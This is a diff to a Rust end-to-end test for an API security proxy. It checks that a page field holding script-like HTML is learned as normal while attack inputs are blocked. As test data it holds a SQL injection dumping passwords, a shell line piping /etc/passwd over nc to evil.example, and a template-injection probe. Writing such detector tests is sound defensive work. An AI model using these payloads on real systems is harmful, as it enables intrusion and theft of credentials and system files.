@@ -1,9 +1,11 @@
-//! Volume over real workers: a caller that spreads its calls over connections is counted as one, and stopped; nobody else is.
+//! What was learned of callers and fields, over real workers: a caller that spreads its calls over connections is counted as
+//! one, and stopped; nobody else is. A field whose normal values look like attacks does not alarm for being itself.
 
 mod e2e;
 
 use std::collections::{BTreeMap, BTreeSet};
 
+use apiward_detector::payload::PayloadClass;
 use apiward_detector::verdict::DetectorKind;
 use apiward_e2e::harness::{Envoy, Secrets};
 use axum::http::StatusCode;
@@ -17,6 +19,8 @@ use e2e::{
 
 const CALLERS: usize = 60;
 const LEARNED_EXCHANGES: usize = 900;
+/// One of so many exchanges is a page.
+const PAGE_EVERY: usize = 10;
 const SERIAL: u64 = 5;
 /// Objects that the attacker walks through.
 const WALKED: u32 = 60;
@@ -52,10 +56,18 @@ impl Proxy {
             .start()
             .await?;
         let honest = honest_requests(1, LEARNED_EXCHANGES).into_iter().enumerate();
-        let requests: Vec<NoteRequest> = honest.map(|(number, request)| by(request, number % CALLERS)).collect();
+        let requests: Vec<NoteRequest> = honest
+            .flat_map(|(number, request)| {
+                let page = number.is_multiple_of(PAGE_EVERY).then(|| page(number / PAGE_EVERY));
+                page.into_iter().chain([request]).map(move |request| by(request, number % CALLERS))
+            })
+            .collect();
         let captures = capture(&envoy, &trainer, &requests).await?;
         let learned = learn_over_time(&captures, &secrets, 1).await?;
         assert!(learned.bundle.volume.is_armed(), "nothing was learned of callers");
+        let fields = &learned.bundle.calibration.payload.fields;
+        let of_pages = fields.iter().find(|field| field.name == "html" && field.class == PayloadClass::Xss);
+        assert!(of_pages.is_some(), "nothing was learned of the field of code: {fields:?}");
         trainer.hand_out(learned.sealed(SERIAL)?);
         until_judged_on_all_workers(&envoy, &trainer, SERIAL).await?;
         Ok(Self { envoy, trainer, _service: service })
@@ -72,12 +84,79 @@ fn note(number: u32) -> NoteRequest {
     NoteRequest::get(&format!("/api/notes/{number}"))
 }
 
+/// A page of a content management system, of which editors embed what they like.
+fn page(number: usize) -> NoteRequest {
+    let html = match number % 4 {
+        0 => format!("<p>Read more.</p><script src=\"https://stats.example/{number}.js\"></script>"),
+        1 => format!("<iframe src=\"https://video.example/{number}\" onload=\"fit(this)\"></iframe>"),
+        2 => format!("<a href=\"javascript:void(0)\" onclick=\"more({number})\">More</a>"),
+        _ => format!("<script>window.campaign = {number}; track('view');</script>"),
+    };
+    page_of(&html)
+}
+
+fn page_of(html: &str) -> NoteRequest {
+    NoteRequest::json("/api/pages", &json!({"title": "Autumn", "html": html}))
+}
+
+/// What the payload detector says of each of these requests, by their order.
+async fn payload_findings(trainer: &HostileTrainer, requests: &[NoteRequest]) -> anyhow::Result<Vec<Option<String>>> {
+    let ids: BTreeSet<String> = requests.iter().map(|request| request.id.to_string()).collect();
+    let records = until("the records", async || {
+        let found = trainer.records_of(&ids);
+        Ok((found.len() >= ids.len()).then_some(found))
+    })
+    .await?;
+    let said = |request: &NoteRequest| {
+        let id = Some(request.id.to_string());
+        let (_, record) = records.iter().find(|(_, record)| record.request_id == id).expect("it was waited for");
+        let findings = record.verdict.iter().flat_map(|verdict| &verdict.findings);
+        let mut payload = findings.filter(|finding| finding.kind.detector() == DetectorKind::Payload);
+        payload.next().map(|finding| finding.reason.clone())
+    };
+    Ok(requests.iter().map(said).collect())
+}
+
+async fn assert_pages_are_normal_and_attacks_are_not(client: &Client, trainer: &HostileTrainer) -> anyhow::Result<()> {
+    let html = |request: &NoteRequest| -> anyhow::Result<String> {
+        let body: Value = serde_json::from_slice(&request.body)?;
+        Ok(body["html"].as_str().unwrap_or_default().to_owned())
+    };
+    let pages: Vec<NoteRequest> = (4_000..4_008).map(|number| by(page(number), number % CALLERS)).collect();
+    // The same elsewhere, and in the field what is foreign to it.
+    let mut attacks = Vec::new();
+    for page in &pages[..4] {
+        let note = json!({"title": "Paint", "text": html(page)?, "pages": 3});
+        attacks.push(by(NoteRequest::json("/api/notes", &note), 1));
+    }
+    for foreign in [
+        "1' UNION ALL SELECT username, password FROM users-- ",
+        "; cat /etc/passwd | nc evil.example 4444",
+        "{{config.__class__.__init__.__globals__}}",
+    ] {
+        attacks.push(by(page_of(foreign), 2));
+    }
+    for request in &pages {
+        client.send(request).await?;
+    }
+    for request in &attacks {
+        assert_eq!(client.send(request).await?.status, StatusCode::FORBIDDEN, "{:?}", request.body);
+    }
+    let of_pages = payload_findings(trainer, &pages).await?;
+    assert!(of_pages.iter().all(Option::is_none), "{of_pages:?}");
+    let of_attacks = payload_findings(trainer, &attacks).await?;
+    assert!(of_attacks.iter().all(Option::is_some), "{of_attacks:?}");
+    Ok(())
+}
+
 #[tokio::test(flavor = "multi_thread")]
-async fn a_walk_through_objects_is_stopped_whichever_worker_sees_it_and_others_are_not() -> anyhow::Result<()> {
+async fn a_field_of_code_is_normal_where_it_is_usual_and_a_walk_through_objects_is_stopped_on_any_worker()
+-> anyhow::Result<()> {
     let proxy = Proxy::start(&json!({"mode": "enforce"})).await?;
     let (envoy, trainer) = (&proxy.envoy, &proxy.trainer);
-
     let client = Client::with_new_connections(envoy);
+    assert_pages_are_normal_and_attacks_are_not(&client, trainer).await?;
+
     let attacker = CALLERS + 1;
     let mut statuses = Vec::new();
     let (mut walk, mut refused, mut others) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
